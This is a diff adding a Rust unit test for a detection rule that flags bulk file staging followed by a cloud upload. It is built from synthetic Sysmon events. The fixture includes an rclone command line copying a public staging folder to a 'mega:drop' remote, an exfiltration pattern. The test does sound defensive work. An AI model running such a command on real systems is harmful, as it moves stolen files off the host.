@@ -292,3 +292,57 @@ fn state_survives_a_snapshot() {
     assert_eq!(out.len(), 1);
     assert!(b.restore(serde_json::json!({"hosts": 3})).is_err());
 }
+
+#[test]
+fn bulk_writes_to_a_staging_folder_then_rclone_of_that_folder() {
+    let mut lines: Vec<String> = (0..200)
+        .map(|i| {
+            sysmon(
+                11,
+                &format!("2026-11-16T11:{:02}:{:02}.000Z", i / 60, i % 60),
+                HOST,
+                &[
+                    ("ProcessId", "5120"),
+                    ("Image", r"C:\Windows\System32\Robocopy.exe"),
+                    (
+                        "TargetFilename",
+                        &format!(r"C:\Users\Public\stage\doc-{i:03}.pdf"),
+                    ),
+                    ("User", r"CORP\eivanova"),
+                ],
+            )
+        })
+        .collect();
+    lines.push(sysmon(
+        1,
+        "2026-11-16T11:30:00.000Z",
+        HOST,
+        &[
+            ("ProcessId", "6001"),
+            ("Image", r"C:\Users\Public\rclone.exe"),
+            ("OriginalFileName", "rclone.exe"),
+            (
+                "CommandLine",
+                r"rclone.exe copy C:\Users\Public\stage mega:drop --transfers 8",
+            ),
+            ("User", r"CORP\eivanova"),
+        ],
+    ));
+    let c = ctx(None, None);
+    let found = run(
+        &c,
+        StagingUpload::build,
+        inputs(&[("sysmon.jsonl", lines.join("\n"))]),
+    );
+    assert_eq!(found.len(), 1, "{found:#?}");
+    assert_eq!(found[0].fields["staged_by"], "bulk file writes");
+    assert_eq!(found[0].fields["staged"], r"C:\Users\Public\stage\");
+    // 199 files are not a bulk (200 needed by default).
+    lines.remove(0);
+    assert!(run(
+        &c,
+        StagingUpload::build,
+        inputs(&[("sysmon.jsonl", lines.join("\n"))])
+    )
+    .is_empty());
+}
